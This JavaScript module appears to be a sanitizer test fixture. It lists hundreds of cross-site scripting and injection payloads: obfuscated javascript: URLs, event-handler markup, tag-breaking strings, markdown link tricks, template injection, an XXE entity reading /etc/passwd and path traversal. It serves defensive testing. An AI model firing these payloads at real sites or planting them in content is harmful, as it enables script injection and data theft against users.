// Words that try to become something else: markup, scripts, addresses, styles, and the ends of what they are put into.
//
// Each calls `alert`, asks `x.invalid` for something, or leaves an element that no page of ours has: payloads.mjs looks for all three.

const RUN = 'alert(1)';
const AWAY = 'https://x.invalid/';

const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbeforetoggle', 'onscrollend', 'onbegin'];
const SCHEMES = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, `java\rscript:${RUN}`, ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`, `\u00a0javascript:${RUN}`, `\ufeffjavascript:${RUN}`, `javascript\u200b:${RUN}`, `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`, `&#0000106avascript:${RUN}`, `javascript&colon;${RUN}`, `java&Tab;script:${RUN}`, `java&NewLine;script:${RUN}`,
  `javascript%3A${RUN}`, `javascript://%0a${RUN}`, `vbscript:msgbox(1)`, `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=${RUN}>`, `blob:${AWAY}a`, `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`, `filesystem:${AWAY}`, `jar:${AWAY}!/a`, `file:///etc/passwd`, `//x.invalid/a`, `\\\\x.invalid\\a`, `/\\x.invalid/a`,
  `https:x.invalid`, `https://x.invalid@127.0.0.1/`, `javascript:${RUN}//https://x.example`, `JAVASCRIPT&#58;${RUN}`, `&#1;javascript:${RUN}`,
];
const MARKUP = [
  `<script>${RUN}</script>`, `<SCRIPT SRC=${AWAY}a.js></SCRIPT>`, `<script\n>${RUN}</script\n>`, `<script/x>${RUN}</script>`, `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script>${RUN}`, `<img src=x onerror=${RUN}>`, `<img/src=x/onerror=${RUN}>`, `<img src=${AWAY}a.png>`,
  `<img srcset="${AWAY}a.png 2x">`, `<image src=x onerror=${RUN}>`, `<img src="x\`onerror=${RUN}\`">`, `<img """><script>${RUN}</script>">`,
  `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`, `<iframe src=${AWAY}></iframe>`,
  `<object data="javascript:${RUN}"></object>`, `<embed src="javascript:${RUN}">`, `<applet code=a></applet>`, `<frameset onload=${RUN}><frame src=${AWAY}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<meta http-equiv="refresh" content="0;url=${AWAY}">`, `<base href="${AWAY}">`,
  `<link rel=stylesheet href="${AWAY}a.css">`, `<link rel=prefetch href="${AWAY}a">`, `<link rel=import href="${AWAY}a">`, `<style>@import "${AWAY}a.css";</style>`,
  `<style>*{background:url(${AWAY}a)}</style>`, `<b style="background:url(${AWAY}a)">b</b>`, `<b style="width:expression(${RUN})">b</b>`,
  `<form action="javascript:${RUN}"><button>b</button></form>`, `<button formaction="javascript:${RUN}">b</button>`, `<input autofocus onfocus=${RUN}>`,
  `<input type=image src=x onerror=${RUN}>`, `<select autofocus onfocus=${RUN}></select>`, `<textarea autofocus onfocus=${RUN}></textarea>`, `<isindex action="javascript:${RUN}">`,
  `<video src=x onerror=${RUN}></video>`, `<video poster="${AWAY}a"><source onerror=${RUN}></video>`, `<audio src=x onerror=${RUN}></audio>`,
  `<details open ontoggle=${RUN}><summary>b</summary></details>`, `<marquee onstart=${RUN}>b</marquee>`, `<dialog open onclose=${RUN}>b</dialog>`,
  `<body onload=${RUN}>`, `<html onmouseover=${RUN}>`, `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><a xlink:href="javascript:${RUN}"><text>b</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><set attributeName=href to="javascript:${RUN}"></set></svg>`, `<svg><use href="${AWAY}a.svg#b"/></svg>`,
  `<svg><image href="${AWAY}a.png"/></svg>`, `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`, `<svg><style>@import "${AWAY}";</style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`, `<math href="javascript:${RUN}">b</math>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${RUN}">b</maction></math>`, `<template><img src=x onerror=${RUN}></template>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`, `<title><img title="</title><img src=x onerror=${RUN}>">`, `<plaintext>`, `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<!--><img src=x onerror=${RUN}>-->`, `<!--!><img src=x onerror=${RUN}>`, `--><img src=x onerror=${RUN}>`, `--!><script>${RUN}</script>`, `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `]]><img src=x onerror=${RUN}>`, `<?xml-stylesheet href="javascript:${RUN}"?>`, `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>`, `&a;`, `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `<a href="javascript:${RUN}">b</a>`, `<a href=\`javascript:${RUN}\`>b</a>`, `<a href="&#x6a;avascript:${RUN}">b</a>`, `<a ping="${AWAY}" href="./">b</a>`, `<a target=_blank href="${AWAY}" download>b</a>`,
  `<a id=location name=cookie>b</a><a id=location>b</a>`, `<form id=document><input name=body></form>`, `<img name=getElementById>`, `<b id=__proto__>b</b>`, `<b id="content" class="skip">b</b>`,
  `<p is=x-a>b</p>`, `<x-a onclick=${RUN} tabindex=1 autofocus onfocus=${RUN}>`, `<b popover ontoggle=${RUN}>b</b>`, `<b contenteditable autofocus onfocus=${RUN}>b</b>`, `<keygen autofocus onfocus=${RUN}>`,
];
const ENDS = [
  `"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `" autofocus onfocus=${RUN} x="`, `' autofocus onfocus=${RUN} x='`, `\` onmouseover=${RUN} x=\``, `></a><img src=x onerror=${RUN}>`,
  `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `</script><script>${RUN}</script>`, `</SCRIPT\t><img src=x onerror=${RUN}>`,
  `<!--<script>`, `</template><img src=x onerror=${RUN}>`, `{"@context":"</script><script>${RUN}</script>"}`, `\\"};${RUN};//`, `';${RUN};//`, `\u2028${RUN}\u2029`, `\${${RUN}}`, `{{ 7 * 7 }}{% include "/etc/passwd" %}`,
  `{{ constructor.constructor('${RUN}')() }}`, `%3Cscript%3E${RUN}%3C/script%3E`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `\u003cscript\u003e${RUN}`, `\\x3cscript\\x3e${RUN}`, `＜script＞${RUN}＜/script＞`,
  `<\u0000script>${RUN}</script>`, `<scr\u0000ipt>${RUN}</script>`, `<img src=x onerror\u0000=${RUN}>`, `\u202e<script>${RUN}</script>`, `<a href="x" \u000conclick=${RUN}>b</a>`, `a\u001b[31mb`, `::error file=a::b`, `../../../etc/passwd`,
];
const MARKDOWN = [
  `[b](javascript:${RUN})`, `[b](<javascript:${RUN}>)`, `[b](java&#115;cript:${RUN})`, `![b](javascript:${RUN})`, `![b](${AWAY}a.png)`, `<javascript:${RUN}>`, `<data:text/html,a>`, `[b]: javascript:${RUN}\n\n[b]`,
  `[b](./ "\" onclick=${RUN} x=\"")`, `![" onerror=${RUN} x="](a.png)`, `[[javascript:${RUN}]]`, `[[index|<img src=x onerror=${RUN}>]]`, `![[index|<script>${RUN}</script>]]`, `![[x" onerror="${RUN}]]`, `^[a <script>${RUN}</script>]`,
  `b[^"><img src=x onerror=${RUN}>]\n\n[^"><img src=x onerror=${RUN}>]: b`, `# b {#a" onclick="${RUN}}`, `# b {onclick="${RUN}"}`, `\`\`\`html"onclick=${RUN}\n<script>${RUN}</script>\n\`\`\``, `\`<script>${RUN}</script>\``, `$<script>${RUN}</script>$`,
  `==<script>${RUN}</script>==`, `> [!NOTE"onclick=${RUN}] b`, `> [!NOTE] <img src=x onerror=${RUN}>`, `[@"><script>${RUN}</script>]`, `[a <b>c](./)`, `<a href="./"><b>[c](./)</a></b>`, `**<i>a** b</i>`, `<div markdown=1 onclick=${RUN}>b</div>`,
];

/** Every payload, each once. */
export const PAYLOADS = [...new Set([
  ...MARKUP, ...ENDS, ...MARKDOWN, ...SCHEMES, ...SCHEMES.slice(0, 12).map((s) => `<a href="${s}">b</a>`), ...HANDLERS.map((h) => `<b ${h}=${RUN} tabindex=1>b</b>`),
])];
